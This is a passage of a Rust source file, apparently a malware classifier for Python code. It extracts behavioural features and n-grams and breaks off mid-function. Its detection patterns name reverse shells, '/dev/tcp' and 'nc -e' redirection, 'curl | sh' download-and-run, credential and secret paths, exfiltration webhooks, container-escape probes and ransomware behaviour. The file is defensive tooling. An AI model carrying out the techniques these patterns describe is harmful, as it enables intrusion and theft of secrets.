//! Features of a Python source: named behavioural features (each with words a responder can
//! read) and hashed token n-grams. Training and scoring both call [`extract`], so the two
//! cannot drift apart.

use crate::lexer::{
    first_segment, last_segment, tokenize_as, tokenize_into, Arena, Grammar, Kind, Sink, Token,
};
use aho_corasick::automaton::Automaton as _;
use aho_corasick::automaton::StateID;
use aho_corasick::dfa::DFA;
use aho_corasick::Anchored;
use base64::Engine as _;
use miniz_oxide::inflate::TINFLStatus;
use std::sync::OnceLock;

/// Hashed n-gram buckets are `0..(1 << HASH_BITS)`.
pub const HASH_BITS: u32 = 15;

/// Sources with up to this many distinct n-gram buckets give each bucket the value 1.
/// (Chosen by out-of-fold family recall over 512–8,192 once training averaged its weights:
/// 1,024; see the model card.)
pub const GRAM_NORM: usize = 1024;

/// The value of each present n-gram bucket in a source with `buckets` of them: 1 up to
/// [`GRAM_NORM`], then falling as `1/sqrt(buckets)`, so that a long file's many n-grams cannot
/// pile up without bound (without it, a 3,000-line library summed hundreds of small n-gram
/// weights into a certain verdict, and the out-of-fold threshold swung with such files).
pub fn gram_value(buckets: usize) -> f32 {
    (GRAM_NORM as f32 / buckets.max(GRAM_NORM) as f32).sqrt()
}

/// The n-grams' share of the log-odds is at most this (either way), whatever their sum.
pub const GRAM_CAP: f32 = 20.0;

/// The n-grams' share of the log-odds from their summed weights `s` (each weight times
/// [`gram_value`]): `s` while small, bending smoothly to ±[`GRAM_CAP`]. A file of 10,000
/// n-grams touches a third of the buckets; without a cap, a small drift of the weights in
/// common buckets added up to a certain verdict on large library files in some training folds.
pub fn gram_term(s: f32) -> f32 {
    GRAM_CAP * (s / GRAM_CAP).tanh()
}

/// Encoded payloads are decoded and scanned to this depth (a blob inside a blob inside the code).
const MAX_DEPTH: u8 = 3;
/// At most this many bytes of decoded payload are scanned per input, across all blobs.
const DECODE_BUDGET: usize = 512 * 1024;
/// Behaviours combine when they occur within this many lines of each other (a reverse shell is
/// a few lines; a library that uses sockets in one module and subprocess in another is not one).
const WINDOW: u32 = 30;
/// Strings at least this long are tried as encoded payloads.
const MIN_BLOB: usize = 24;

macro_rules! named_features {
    ($($id:ident = $name:literal, $words:literal;)*) => {
        /// The named features, in model order.
        #[derive(Debug, Clone, Copy, PartialEq, Eq)]
        #[allow(non_camel_case_types, missing_docs, reason = "one variant per feature name")]
        pub enum F { $($id,)* }
        /// Feature names, in model order (the model file lists them and must agree).
        pub const NAMES: &[&str] = &[$($name,)*];
        /// What each feature means, in words for a finding.
        pub const WORDS: &[&str] = &[$($words,)*];
        /// How many named features there are.
        pub const N_NAMED: usize = NAMES.len();
    };
}

named_features! {
    Exec = "exec", "exec/eval/compile of code";
    DynImport = "dynamic_import", "__import__/importlib of a module by name";
    OsSystem = "os_system", "os.system/os.popen shell command";
    Subprocess = "subprocess", "subprocess call";
    Execv = "os_exec", "os.exec* replaces the process";
    Dup2 = "dup2", "dup2 onto stdin/stdout/stderr";
    Pty = "pty", "pty.spawn/openpty terminal";
    Socket = "socket", "raw socket";
    Connect = "connect", "outbound socket connect";
    Listen = "bind_listen", "socket bind/listen/accept";
    B64 = "base64_decode", "base64/base32/base85 decoding";
    Decompress = "decompress", "zlib/gzip/bz2/lzma decompression";
    Marshal = "marshal", "marshal.loads of bytecode";
    Pickle = "pickle_loads", "pickle.loads";
    HexDecode = "hex_decode", "hex/rot13 decoding";
    Chmod = "chmod", "chmod/making a file executable";
    Fetch = "fetch", "HTTP download (urllib/requests/http.client)";
    Post = "post", "HTTP POST/upload";
    WriteFile = "write_file", "file written";
    EnvDump = "env_dump", "whole environment read (os.environ)";
    Fingerprint = "fingerprint", "host fingerprinting (hostname/user/platform/public IP)";
    Daemonize = "daemonize", "fork/setsid into the background";
    WinInject = "win_inject", "ctypes memory/thread injection API";
    WinSteal = "win_steal", "browser/Discord credential decryption";
    SetupCall = "setup_call", "setup() of a package";
    SetupHook = "setup_install_hook", "setup.py custom install/develop command";
    BuiltinsObf = "builtins_obf", "getattr/globals/__builtins__ indirection";
    Chr = "chr_calls", "characters built with chr()";
    Lambda = "lambdas", "many lambdas";
    Reverse = "reversed_string", "string reversed with [::-1]";
    SelfDelete = "self_delete", "script deletes itself";
    ShellStr = "shell_string", "shell command text (/bin/sh, bash -i, cmd.exe, powershell)";
    DownloadCmd = "download_command", "download-and-run command text (curl/wget | sh, chmod +x)";
    DevTcp = "dev_tcp", "/dev/tcp, mkfifo or nc -e redirection text";
    Stratum = "stratum", "crypto-mining pool or miner (stratum+tcp, xmrig)";
    Sensitive = "sensitive_path", "credential or secret path (ssh keys, cloud/k8s credentials, /etc/shadow, browser data)";
    Metadata = "cloud_metadata", "cloud metadata endpoint";
    Persist = "persistence", "persistence location (cron, shell rc, systemd, authorized_keys, Run keys)";
    ExfilService = "exfil_service", "exfiltration service (Discord/Telegram webhooks, paste sites, tunnels)";
    ExeDrop = "exe_drop", "executable or script file name (.exe/.bat/.ps1/.vbs)";
    IpLiteral = "ip_literal", "hard-coded IP address";
    RawIpUrl = "raw_ip_url", "URL to a bare IP address";
    Url = "url", "URLs";
    InternalUrl = "internal_address", "in-cluster address (kubernetes.default.svc, *.svc.cluster.local)";
    KillProc = "kill_process", "kills other processes (pkill/killall/kill -9)";
    Recv = "socket_receive", "reads commands from a socket";
    SecretNames = "secret_names", "looks for secret-named values (TOKEN, SECRET, PASSWORD)";
    EscapeProbe = "container_escape", "container-escape probing (/proc/1/root, docker.sock, release_agent, nsenter)";
    PortScan = "port_scan", "port scanning (connect_ex)";
    ShellTrue = "shell_true", "subprocess with shell=True";
    LongB64 = "long_base64", "long base64 blob";
    LongHex = "long_hex", "long hex blob";
    Entropy = "string_entropy", "high-entropy string";
    Escapes = "escape_density", "code written as \\x escapes";
    Hidden = "hidden_code", "encoded blob decodes to code";
    HiddenExec = "hidden_exec", "decoded blob is executed";
    LongLine = "long_line", "very long line";
    Semicolons = "semicolons", "statements packed with ;";
    WeirdNames = "obfuscated_names", "obfuscated identifiers (O0O0, _0x, lIlI)";
    Defs = "definitions", "functions and classes defined";
    Comments = "comments", "commented code";
    Size = "size", "size of the code";
    RevShell = "reverse_shell", "socket connect + dup2 to stdio + shell/pty";
    SockShell = "socket_shell", "socket + subprocess/os shell";
    BindShell = "bind_shell", "listening socket + shell";
    DecodeExec = "decode_exec", "decode-then-exec chain";
    DownloadExec = "download_exec", "download then execute/chmod";
    StealExfil = "steal_exfil", "secrets or host details read, then sent out";
    InstallHookNet = "install_hook_action", "install hook that runs commands or downloads";
    Sensitive2 = "env_to_network", "environment dumped and network used";
    SecretRead = "secret_file_read", "credential or secret file opened";
    EnvSecrets = "env_secret_search", "environment searched for secret-named values";
    ExecLiteral = "exec_decoded_literal", "an encoded string literal decoded and executed in one expression";
    RunDownloaded = "run_downloaded", "a file written by the program is then run or made executable, and the program downloads";
    HiddenTmp = "hidden_tmp_file", "hidden file in /tmp, /var/tmp or /dev/shm";
    ExecRemote = "exec_remote_code", "code downloaded or received from a socket and executed in one expression";
    Fileless = "fileless_exec", "memfd_create or /proc/self/fd: a program run from memory";
    PersistWrite = "persistence_write", "a persistence location opened for writing";
    EscapedNames = "escaped_names", "names or code spelled entirely in \\x or octal escapes";
    EscapeRecon = "escape_recon", "container escape attempted or surveyed: nsenter into pid 1, or two or more kinds of probe (host root, runtime socket, capabilities, release_agent, core_pattern, nsenter, a disk or cgroup mounted)";
    SecretDump = "secret_dump", "secrets dumped: a credential file printed or sent in one expression, the environment sent out or filtered by secret names, Kubernetes secrets listed";
    DefenseEvasion = "defense_evasion", "defenses taken down: security or logging turned off (setenforce 0, iptables -F, history or logs wiped), /etc/ld.so.preload written, competing miners killed";
    SocketExec = "socket_exec", "socket read, then code or a shell command run nearby";
    ReceivedCommand = "received_command", "what a socket read returns is run as code or as a command (remote shell loop)";
    RunHiddenTmp = "run_hidden_tmp", "a hidden file in /tmp, /var/tmp or /dev/shm run or made executable";
    ScanSweep = "scan_sweep", "many hosts or ports tried with connects (a list of service ports, an address range)";
    EscapeTechnique = "escape_technique", "a container-escape technique: a cgroup (v1) filesystem mounted and its release_agent or notify_on_release named in the same script, or a checklist of three or more kinds of escape probe (host root through pid 1, runtime socket, capabilities, release_agent, core_pattern, nsenter, a disk mounted)";
    EncryptFiles = "encrypt_files", "files of a directory walk encrypted and the originals removed (ransomware)";
}

/// Flags the combinations use that are not features of their own (they are common in
/// ordinary code); their lines are kept after the named features' in `Acc::at`.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum P {
    /// `os.kill`/`os.killpg` called.
    OsKill,
    /// A shell runs a command given as a value: `create_subprocess_shell(x)`.
    ShellCmd,
    /// The string `"job_id"` (a mining job).
    JobId,
    /// The string `"nonce"`.
    Nonce,
    /// The strings `"submit"`/`"login"`/`"getjob"` (pool methods).
    PoolMethod,
    /// A directory walked: `os.walk`, `glob.glob`, `Path.rglob`, `os.scandir`, `os.listdir`.
    Walk,
    /// Something encrypted: a call of `encrypt` (Fernet, a cipher), `encrypt_and_digest`,
    /// `encryptFile` (pyAesCrypt).
    Encrypt,
    /// A file removed: `os.remove`, `os.unlink`, `Path.unlink`.
    RemoveFile,
    /// Scan targets: a list of service ports (`(22, 80, 443, 6379)`), an address with its last
    /// part left to fill in (`"10.42.0.%d"`).
    Targets,
}

/// How many [`P`] flags there are (`Targets` is the last).
const N_PRIVATE: usize = P::Targets as usize + 1;

/// The index of a flag in `Acc::at`.
trait Ix: Copy {
    fn ix(self) -> usize;
}
impl Ix for F {
    fn ix(self) -> usize {
        self as usize
    }
}
impl Ix for usize {
    fn ix(self) -> usize {
        self
    }
}
impl Ix for P {
    fn ix(self) -> usize {
        N_NAMED + self as usize
    }
}

/// Behaviours that decide a verdict on their own (see `Model::probability`): a reverse
/// shell, a command or code read from a socket and run (a remote shell loop), code hidden in
/// an encoded blob, an encoded literal decoded and executed in one
/// expression, downloaded or received code executed, browser or Discord credential decryption,
/// a container-escape technique (a cgroup v1 mounted with its release_agent named, or a
/// checklist of three kinds of probe; no benign file shows more than two).
/// (Mining indicators are not among them: coin names turn up in ordinary code.) None of them
/// shows in any of the ~19,000 benign files (`PYML_FEATURE_STATS=1 scripts/train-pyml.sh`).
pub const CERTAIN: &[F] = &[
    F::RevShell,
    F::ReceivedCommand,
    F::Hidden,
    F::HiddenExec,
    F::ExecLiteral,
    F::ExecRemote,
    F::WinSteal,
    F::EscapedNames,
    F::EscapeTechnique,
];

/// The first [`CERTAIN`] behaviour `f` shows.
pub fn certain(f: &Features) -> Option<F> {
    CERTAIN.iter().copied().find(|c| f.named[*c as usize] > 0.0)
}

/// What [`extract`] found.
#[derive(Debug, Clone, PartialEq)]
pub struct Features {
    /// One value per [`NAMES`] entry, in `0..=1`.
    pub named: Vec<f32>,
    /// Hashed n-gram buckets present (sorted, unique).
    pub hashed: Vec<u32>,
}

/// An n-gram of the token stream and its bucket, for explanations.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Gram {
    /// The n-gram as text (`os.dup2 s.fileno`).
    pub text: String,
    /// Its bucket.
    pub bucket: u32,
}

#[derive(Default)]
struct Acc {
    /// Lines (of the source; a decoded payload counts as its string's line) where each flag
    /// was seen (a flag is set when its list is not empty), for the combinations, which must
    /// occur close together.
    at: Vec<Vec<u32>>,
    line: u32,
    chr: u32,
    lambdas: u32,
    max_b64: usize,
    max_hex: usize,
    /// The highest string entropy, of those above 4 bits (lower ones give the feature 0 and
    /// are not worked out).
    max_entropy: f32,
    /// The byte counts of the string being measured (zeroed between strings).
    byte_counts: ByteCounts,
    escapes: u32,
    /// String literals written entirely in escapes that spell a name or code.
    escaped_names: u32,
    /// One of them names a builtin or module that runs, imports or decodes code.
    escaped_code: bool,
    urls: u32,
    weird: u32,
    defs: u32,
    decoded_budget: usize,
    hidden: bool,
    /// The source names the rot13 codec: its strings are also read decoded.
    rot13: bool,
    /// The source locates site-packages: a `.pth` file written there runs at every start.
    site_packages: bool,
    /// Files written (`open(X, "wb")`, `urlretrieve(url, X)`), by the name or path written.
    written: Vec<String>,
    /// Names and paths passed to calls that run or make executable (`Popen([X])`, `chmod(X)`).
    ran: Vec<String>,
    /// Hidden temporary paths, and names assigned one (`OUT = "/var/tmp/.d"`).
    hidden_tmp: Vec<String>,
    /// Kinds of container-escape probe seen (bits of [`escape_kind`]).
    escape_kinds: u16,
    /// Names assigned what a socket read returns (`cmd = s.recv(1024)`), with the line.
    received: Vec<(String, u32)>,
}

impl Acc {
    fn set(&mut self, f: impl Ix) {
        let at = &mut self.at[f.ix()];
        if at.last() != Some(&self.line) {
            at.push(self.line);
        }
    }

    /// True when some window of [`WINDOW`] lines holds a flag from every group.
    fn near<T: Ix>(&self, groups: &[&[T]]) -> bool {
        // A group with no flag set anywhere cannot be in any window.
        if groups
            .iter()
            .any(|flags| flags.iter().all(|f| !self.has(*f)))
        {
            return false;
        }
        let mut events: Vec<(u32, usize)> = Vec::new();
        for (g, flags) in groups.iter().enumerate() {
            for f in *flags {
                events.extend(self.at[f.ix()].iter().map(|l| (*l, g)));
            }
        }
        // Each flag's lines are in order already: a stable sort merges those runs.
        events.sort();
        let mut counts = vec![0usize; groups.len()];
        let mut present = 0;
        let mut lo = 0;
        for hi in 0..events.len() {
            let (line, g) = events[hi];
            if counts[g] == 0 {
                present += 1;
            }
            counts[g] += 1;
            while events[lo].0 + WINDOW <= line {
                let lg = events[lo].1;
                counts[lg] -= 1;
                if counts[lg] == 0 {
                    present -= 1;
                }
                lo += 1;
            }
            if present == groups.len() {
                return true;
            }
        }
        false
    }
    /// How many kinds of container-escape probe were seen.
    fn probe_kinds(&self) -> u32 {
        (self.escape_kinds & ESCAPE_KINDS).count_ones()
    }

    fn has(&self, f: impl Ix) -> bool {
        !self.at[f.ix()].is_empty()
    }
}

/// Extracts the features of `src`.
pub fn extract(src: &str) -> Features {
    extract_with(src, None)
}

/// Extracts the features of `src`, also listing its n-grams when `grams` is given.
pub fn extract_with(src: &str, grams: Option<&mut Vec<Gram>>) -> Features {
    extract_as(src, grams, Grammar::default()).0
}

/// [`extract_with`], reading f-strings as `grammar` does; also says whether the source has a
/// place that the [`Grammar`]s read differently (then it is worth extracting both ways).
pub fn extract_as(src: &str, grams: Option<&mut Vec<Gram>>, grammar: Grammar) -> (Features, bool) {
    let mut acc = Acc {
        at: vec![Vec::new(); N_NAMED + N_PRIVATE],
        ..Acc::default()
    };
    let mut arena = Arena::new();
    // Scoring takes the n-grams as the lexer reads the tokens; an explanation lists them in a
    // pass of its own.
    let mut gathered = Gathered::new(grams.is_none(), src.len());
    let (tokens, shape) = tokenize_as(src, &mut arena, &mut gathered, grammar);
    acc.rot13 = names_rot13(src.as_bytes());
    walk(src, &tokens, &gathered, 0, &mut acc);
    let mut named = vec![0f32; N_NAMED];
    for (i, seen) in acc.at.iter().take(N_NAMED).enumerate() {
        if !seen.is_empty() {
            named[i] = 1.0;
        }
    }
    let a = &acc;
    let combo = |on: bool| if on { 1.0 } else { 0.0 };
    const SHELLISH: &[F] = &[F::Pty, F::Subprocess, F::OsSystem, F::ShellStr, F::Execv];
    named[F::RevShell as usize] = combo(a.near(&[&[F::Connect], &[F::Dup2], SHELLISH]));
    named[F::SockShell as usize] = combo(a.near(&[
        &[F::Socket, F::Connect],
        &[F::Subprocess, F::OsSystem, F::Pty],
        &[F::ShellStr, F::Recv],
    ]));
    named[F::BindShell as usize] = combo(a.near(&[&[F::Listen], SHELLISH]));
    named[F::DecodeExec as usize] = combo(a.near(&[
        &[F::B64, F::Decompress, F::Marshal, F::HexDecode, F::Reverse],
        &[F::Exec],
    ]));
    named[F::DownloadExec as usize] = combo(a.near(&[
        &[F::Fetch, F::DownloadCmd],
        &[F::Exec, F::Chmod, F::OsSystem, F::Subprocess, F::DynImport],
    ]));
    named[F::EnvSecrets as usize] = combo(a.near(&[&[F::EnvDump], &[F::SecretNames]]));
    named[F::RunDownloaded as usize] = combo(
        (a.has(F::Fetch) || a.has(F::DownloadCmd)) && a.written.iter().any(|w| a.ran.contains(w)),
    );
    named[F::StealExfil as usize] = combo(a.near(&[
        &[F::Sensitive, F::Metadata, F::WinSteal, F::Fingerprint],
        &[F::Post, F::ExfilService, F::Connect],
    ]));
    // A setup.py's command class and what its run() does can be far apart.
    named[F::InstallHookNet as usize] = combo(
        a.has(F::SetupHook)
            && (a.has(F::OsSystem)
                || a.has(F::Subprocess)
                || a.has(F::Fetch)
                || a.has(F::Exec)
                || a.has(F::Socket)),
    );
    named[F::Sensitive2 as usize] =
        combo(a.near(&[&[F::EnvDump], &[F::Fetch, F::Post, F::Connect]]));
    named[F::ScanSweep as usize] = combo(a.near(&[&[F::Connect.ix()], &[P::Targets.ix()]]));
    named[F::EscapeRecon as usize] =
        combo(a.probe_kinds() >= 2 || a.escape_kinds & ESCAPE_ACTION != 0);
    named[F::EscapeTechnique as usize] = combo(
        (a.escape_kinds & CHECKLIST_KINDS).count_ones() >= 3
            || a.escape_kinds & ESCAPE_CGROUP_MOUNT != 0
                && a.escape_kinds & ESCAPE_RELEASE_AGENT != 0,
    );
    // A mining pool's protocol spoken over a socket.
    let pool_protocol = a.near(&[
        &[F::Socket.ix(), F::Connect.ix()],
        &[P::JobId.ix()],
        &[P::Nonce.ix()],
        &[P::PoolMethod.ix()],
    ]);
    if pool_protocol {
        named[F::Stratum as usize] = 1.0;
    }
    // Competing miners killed near the pool's address, or near the pool protocol's messages
    // when the script speaks it.
    let mining: &[usize] = if pool_protocol {
        &[F::Stratum.ix(), P::PoolMethod.ix()]
    } else {
        &[F::Stratum.ix()]
    };
    if a.near(&[&[F::KillProc.ix(), P::OsKill.ix()], mining]) {
        named[F::DefenseEvasion as usize] = 1.0;
    }
    named[F::SocketExec as usize] = combo(a.near(&[
        &[F::Connect.ix()],
        &[F::Recv.ix()],
        &[
            F::Exec.ix(),
            F::OsSystem.ix(),
            F::ShellTrue.ix(),
            P::ShellCmd.ix(),
        ],
    ]));
    named[F::RunHiddenTmp as usize] = combo(a.ran.iter().any(|r| a.hidden_tmp.contains(r)));
    // Ransomware: files of a walk encrypted, and files removed, close together.
    named[F::EncryptFiles as usize] =
        combo(a.near(&[&[P::Walk.ix()], &[P::Encrypt.ix()], &[P::RemoveFile.ix()]]));
    let len = src.len().max(1) as f32;
    named[F::Chr as usize] = scaled(a.chr, 64.0);
    named[F::Lambda as usize] = scaled(a.lambdas.saturating_sub(2), 32.0);
    named[F::LongB64 as usize] = scaled(a.max_b64.saturating_sub(64) as u32, 65536.0);
    named[F::LongHex as usize] = scaled(a.max_hex.saturating_sub(32) as u32, 65536.0);
    named[F::Entropy as usize] = ((a.max_entropy - 4.0) / 2.0).clamp(0.0, 1.0);
    named[F::Escapes as usize] = (a.escapes as f32 * 4.0 / len).min(1.0);
    named[F::Url as usize] = scaled(a.urls, 32.0);
    named[F::EscapedNames as usize] = combo(a.escaped_names >= 2 && a.escaped_code);
    named[F::Hidden as usize] = combo(a.hidden);
    named[F::HiddenExec as usize] = combo(a.hidden && a.has(F::Exec));
    named[F::LongLine as usize] = scaled(shape.max_line.saturating_sub(200), 100_000.0);
    named[F::Semicolons as usize] = (shape.semicolons as f32 / shape.lines.max(1) as f32).min(1.0);
    named[F::WeirdNames as usize] = scaled(a.weird, 64.0);
    named[F::Defs as usize] = scaled(a.defs, 256.0);
    named[F::Comments as usize] = shape.comment_lines as f32 / shape.lines.max(1) as f32;
    named[F::Size as usize] = scaled(u32::try_from(src.len()).unwrap_or(u32::MAX), 4_000_000.0);
    let hashed = match (grams, &gathered.grams) {
        (Some(list), _) => ngrams(&tokens, list),
        (None, Some(marks)) => marks.buckets(),
        (None, None) => unreachable!("the n-grams are taken when they are not listed"),
    };
    (Features { named, hashed }, shape.readings_differ)
}

/// Words that make a name spelled in escapes a name of code: obfuscators hide the builtins
/// and modules they call (`eval`, `__import__('base64')`). Test data spelled in escapes
/// (CPython's codec tests spell words in `\u` escapes) names none of them.
const ESCAPED_CODE_WORDS: &[&str] = &[
    "eval",
    "exec",
    "compile",
    "import",
    "codecs",
    "b64decode",
    "getattr",
    "setattr",
    "globals",
    "builtins",
    "base64",
    "marshal",
    "zlib",
    "decode",
    "system",
    "open",
    "chr",
    "join",
    "lambda",
    "socket",
    "subprocess",
];

/// Whether `s` holds one of [`ESCAPED_CODE_WORDS`] as a whole name (`__import__` counts as
/// `import`; `filesystem` does not count as `system`).
fn names_code(s: &str) -> bool {
    s.split(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
        .map(|w| w.trim_matches('_'))
        .any(|w| ESCAPED_CODE_WORDS.contains(&w))
}

/// Whether a string literal whose value is `s` was written with one escape per character
/// (`"\x65\x76\x61\x6c"`) and spells a name or a bit of code. Two of them, one naming
/// code ([`ESCAPED_CODE_WORDS`]), show in 90 malicious files and in none of the ~19,000 benign
/// ones (binary data in escapes decodes to other characters).
fn spelled_in_escapes(s: &str, escapes: u32) -> bool {
    s.len() == escapes as usize
        && s.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')
        && s.bytes().all(|b| {
            b.is_ascii_alphanumeric()
                || matches!(b, b'_' | b'.' | b'(' | b')' | b'\'' | b'"' | b',' | b' ')
        })
}

/// `log(1 + n) / log(1 + max)`, clamped to 1.
fn scaled(n: u32, max: f32) -> f32 {
    ((n as f32).ln_1p() / max.ln_1p()).min(1.0)
}

fn next_is_call(tokens: &[Token], i: usize) -> bool {
    tokens
        .get(i + 1)
        .is_some_and(|t| t.kind == Kind::Op && t.text == "(")
}

/// Tokenizes `src`, a payload decoded from the source at `depth` > 0, and walks its tokens.
fn scan(src: &str, depth: u8, acc: &mut Acc) {
    let mut arena = Arena::new();
    let mut gathered = Gathered::new(false, src.len());
    let (tokens, _) = tokenize_into(src, &mut arena, &mut gathered);
    walk(src, &tokens, &gathered, depth, acc);
}

/// What the walk needs from the tokens beyond the tokens themselves, gathered by the lexer as
/// it reads them ([`Sink`]), where each token's kind is already known: on a megabyte of
/// scripts, a pass of its own branched on every token's kind again, and those branches,
/// hard to predict, cost more than the work behind them.
struct Gathered {
    /// The n-grams, for the source itself (not for decoded payloads, nor when an
    /// explanation lists them).
    grams: Option<GramMarks>,
    /// Names whose last segment looks obfuscated ([`is_weird_segment`]).
    weird: u32,
    /// The tokens the walk checks, in order: every string literal, every `[` and `(` before a
    /// number or `:` (the only ones [`scan_op`] looks at), and
    /// the names whose last segment one of the checks reacts to ([`NameScreen`]) or that
    /// start `win32crypt` or `Crypto.Cipher`.
    checks: Vec<u32>,
    /// The other names, with their first segment's bit in an alias screen
    /// ([`Aliases::screen_bit`]): checked only when that segment may be an alias. The bit is
    /// kept so that the tokens are not read again to screen them.
    others: Vec<(u32, u16)>,
    /// Where a binding may be made: each `import`, and each name before an `=`
    /// ([`Aliases::of`] looks at these and nowhere else).
    binds: Vec<u32>,
    /// The index after the last `[` or `(` told (0 before the first).
    after_open: u32,
    screen: &'static NameScreen,
}

impl Gathered {
    /// Room for what `len` bytes of source usually give, so that the lists seldom grow (a
    /// megabyte of our scripts gave 45,000 checks, 58,000 other names and 13,000 bindings;
    /// growing the lists to that copied them over and over).
    fn new(grams: bool, len: usize) -> Self {
        Gathered {
            grams: grams.then(GramMarks::new),
            weird: 0,
            checks: Vec::with_capacity(len / 24),
            others: Vec::with_capacity(len / 16),
            binds: Vec::with_capacity(len / 64),
            after_open: 0,
            screen: name_screen(),
        }
    }
}

/// A token index as kept in [`Gathered`]: sources are far below 4 GiB (the sensor and
/// `shrike classify` score at most 1 MiB at a time).
fn index(i: usize) -> u32 {
    u32::try_from(i).unwrap_or(u32::MAX)
}

impl Gathered {
    /// A number or `:` at `i`: the `[` or `(` just before it, if there is one, is checked
    /// ([`scan_op`] looks for nothing else after a bracket).
    #[inline(always)]
    fn opened_before(&mut self, i: usize) {
        if i != 0 && self.after_open == index(i) {
            self.checks.push(index(i - 1));
        }
    }

    /// The next word of the n-gram stream, when the n-grams are taken.
    #[inline(always)]
    fn gram(&mut self, w: &str) {
        if let Some(g) = self.grams.as_mut() {
            g.word(w);
        }
    }
}

impl Sink for Gathered {
    #[inline(always)]
    fn name(&mut self, i: usize, t: &Token<'_>) {
        self.gram(t.text);
        let last = t.tail();
        if is_weird_segment(last) {
            self.weird += 1;
        }
        let last_key = screen_key(last.as_bytes());
        // Most names are none the checks react to and start no `win32crypt`/`Crypto.Cipher`:
        // for them the obfuscation test is all, unless they may start with an alias.
        if self.screen.may_react_key(last_key)
            || matches!(t.text.as_bytes().first(), Some(b'w' | b'C'))
                && (t.text.starts_with("win32crypt") || t.text.starts_with("Crypto.Cipher"))
        {
            self.checks.push(index(i));
        } else {
            // A name without a dot is its own first segment.
            let head_key = if last.len() == t.text.len() {
                last_key
            } else {
                screen_key(t.head().as_bytes())
            };
            self.others.push((index(i), Aliases::key_bit(head_key)));
        }
        if t.text == "import" {
            self.binds.push(index(i));
        }
    }

    #[inline(always)]
    fn string(&mut self, i: usize, t: &Token<'_>) {
        self.gram(string_class(t.text));
        if t.text == ":" {
            self.opened_before(i);
        }
        self.checks.push(index(i));
    }

    #[inline(always)]
    fn number(&mut self, i: usize, _: &Token<'_>) {
        self.opened_before(i);
    }

    #[inline(always)]
    fn op(&mut self, i: usize, t: &Token<'_>) {
        // Only `[` and `(` start what the operator checks look for.
        match t.text.as_bytes() {
            b"[" => {
                self.gram(t.text);
                self.after_open = index(i + 1);
            }
            b"(" => self.after_open = index(i + 1),
            b":" => self.opened_before(i),
            b"=" => {
                self.gram(t.text);
                // The name before it, once (`import = …` is told twice otherwise).
                if let Some(before) = i.checked_sub(1).map(index) {
                    if self.binds.last() != Some(&before) {
                        self.binds.push(before);
                    }
                }
            }
            b"+" | b"%" => {
                self.gram(t.text);
            }
            _ => {}
        }
    }
}

/// Walks the tokens of the source, or of a payload decoded from it at `depth` > 0: the checks
/// of each token in [`Gathered::checks`], and of each other name whose first segment may be an
/// alias, in the order of the tokens.
///
/// Each kind of token is checked in a function of its own, kept out of line: inlined, the
/// checks made the loop carry dozens of values from token to token, and that bookkeeping cost
/// about 40 instructions a token before any check ran.
fn walk(src: &str, tokens: &[Token], gathered: &Gathered, depth: u8, acc: &mut Acc) {
    let aliases = Aliases::of(tokens, &gathered.binds);
    let w = Walk {
        src,
        tokens,
        depth,
        aliases: &aliases,
        local_state: std::cell::OnceCell::new(),
        screen: gathered.screen,
    };
    acc.weird += gathered.weird;
    let visit = |i: u32, acc: &mut Acc| {
        let i = i as usize;
        let t = &tokens[i];
        if depth == 0 {
            acc.line = t.line;
        }
        match t.kind {
            Kind::Name => scan_name(&w, i, t, acc),
            Kind::Str => scan_str(&w, i, t, acc),
            // Only brackets before a number or `:` are gathered: each check of `scan_op`
            // wants one (`[112, …]`, `[::-1]`).
            Kind::Op => {
                debug_assert!(
                    tokens
                        .get(i + 1)
                        .is_some_and(|n| n.kind == Kind::Number || n.text == ":"),
                    "a bracket before a number or ':'"
                );
                scan_op(&w, i, t, acc)
            }
            Kind::Number => {}
        }
    };
    // The names that may start with an alias, merged in.
    let mut aliased = gathered
        .others
        .iter()
        .filter(|&&(_, bit)| aliases.may_hold_bit(bit))
        .map(|&(i, _)| i)
        .peekable();
    for &i in &gathered.checks {
        while let Some(a) = aliased.next_if(|&a| a < i) {
            visit(a, acc);
        }
        visit(i, acc);
    }
    for a in aliased {
        visit(a, acc);
    }
}

/// What [`scan`]'s checks of one token read besides the token.
struct Walk<'w, 'a> {
    src: &'w str,
    tokens: &'w [Token<'a>],
    depth: u8,
    aliases: &'w Aliases,
    /// Whether the source names Chrome's `Local State` file, looked up once.
    local_state: std::cell::OnceCell<bool>,
    screen: &'static NameScreen,
}

/// [`scan`]'s checks of the name `t` at `tokens[i]`.
#[inline(never)]
fn scan_name(w: &Walk<'_, '_>, i: usize, t: &Token<'_>, acc: &mut Acc) {
    let Walk {
        src,
        tokens,
        depth,
        aliases,
        ref local_state,
        screen,
    } = *w;
    let resolved = aliases.resolve_head(t.text, t.head());
    let full = resolved.as_ref();
    // The last segment of the name as written, and of the name resolved (the same
    // unless an alias was resolved).
    let own_last = t.tail();
    let last = if std::ptr::eq(full, t.text) {
        own_last
    } else {
        last_segment(full)
    };
    if matches!(full.as_bytes().first(), Some(b'w' | b'C'))
        && (full.starts_with("win32crypt")
            || full.starts_with("Crypto.Cipher")
                && *local_state
                    .get_or_init(|| memchr::memmem::find(src.as_bytes(), b"Local State").is_some()))
    {
        acc.set(F::WinSteal);
    }
    // Most names are none of the ones below react to.
    if !screen.may_react(last) {
        return;
    }
    let call = next_is_call(tokens, i);
    name_flags(full, last, call, tokens, i, depth, acc);
    if call {
        track_files(last, tokens, i, acc);
        // `requests.post(url, json=dict(os.environ))`, `s.sendall(str(os.environ))`.
        if matches!(
            last,
            "urlopen" | "Request" | "post" | "put" | "request" | "send" | "sendall"
        ) && sends_environ(tokens, i, aliases)
        {
            acc.set(F::SecretDump);
        }
    }
    if call {
        received_command(full, last, tokens, i, acc);
    }
    // `{k: v for k, v in os.environ.items() if "TOKEN" in k}`; a membership test
    // (`"API_KEY" in os.environ`) is not a loop.
    if is_whole_environ(full)
        && tokens
            .get(i.wrapping_sub(1))
            .is_some_and(|p| p.text == "in")
        && iterated_at(tokens, i - 1)
        && !next_is_subscript(tokens, i)
        && secret_name_follows(tokens, i)
    {
        acc.set(F::SecretDump);
    }
    // `getattr(os, "sys" + "tem")(…)` is a call of `os.system`.
    if last == "getattr" && call {
        if let Some(target) = getattr_target(tokens, i, aliases) {
            name_flags(&target, last_segment(&target), true, tokens, i, depth, acc);
        }
    }
    // `chr(101) + chr(120) + …` spells a string.
    if last == "chr" && call && !follows_plus(tokens, i) {
        if let Some(folded) = fold(tokens, i) {
            string(&folded.text, 0, depth, executed_at(tokens, i), acc);
        }
